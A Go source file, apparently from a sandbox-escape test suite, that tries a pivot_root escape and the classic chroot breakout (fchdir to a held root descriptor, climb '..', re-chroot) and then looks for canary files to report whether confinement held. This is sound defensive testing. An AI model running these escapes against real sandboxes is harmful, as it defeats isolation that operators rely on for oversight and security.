// The pivot_root class: the box's root left by pivot_root, or by the
// classic chroot breakout.

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/cocoonbox/cocoonbox/api/sandbox/escape"
	"golang.org/x/sys/unix"
)

// pivotRoot pivots onto a tmpfs and looks for the canaries under the old
// root.
func pivotRoot(c *escape.Config) (bool, string) {
	dir, err := scratch()
	if err != nil {
		return false, err.Error()
	}
	old := filepath.Join(dir, "old")
	if err := os.Mkdir(old, 0o700); err != nil {
		return false, err.Error()
	}
	if err := unix.PivotRoot(dir, old); err != nil {
		return false, fmt.Sprintf("pivot_root: %v", err)
	}
	if err := unix.Chdir("/"); err != nil {
		return false, err.Error()
	}
	fd, err := unix.Open("/old", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, fmt.Sprintf("pivoted; open the old root: %v", err)
	}
	defer unix.Close(fd)
	for _, t := range targets(c) {
		if n, err := readAt(fd, strings.TrimPrefix(t, "/")); err == nil {
			return true, fmt.Sprintf("pivoted; opened %s under the old root, read %d bytes", t, n)
		}
	}
	return false, "pivoted; no canary under the old root"
}

// chrootBreakout is the classic chroot escape: chroot into a directory
// with a descriptor of the old root held, fchdir out, climb "..", chroot
// there, and look for the canaries.
func chrootBreakout(c *escape.Config) (bool, string) {
	dir, err := os.MkdirTemp("", "probe-chroot-")
	if err != nil {
		return false, err.Error()
	}
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, err.Error()
	}
	if err := unix.Chroot(dir); err != nil {
		return false, fmt.Sprintf("chroot: %v", err)
	}
	if err := unix.Fchdir(fd); err != nil {
		return false, err.Error()
	}
	for range 256 {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return false, fmt.Sprintf("chroot back: %v", err)
	}
	for _, t := range targets(c) {
		if n, err := readAt(unix.AT_FDCWD, t); err == nil {
			return true, fmt.Sprintf("broke out of a chroot; opened %s, read %d bytes", t, n)
		}
	}
	return false, "broke out of a chroot to the box's root; no canary there"
}
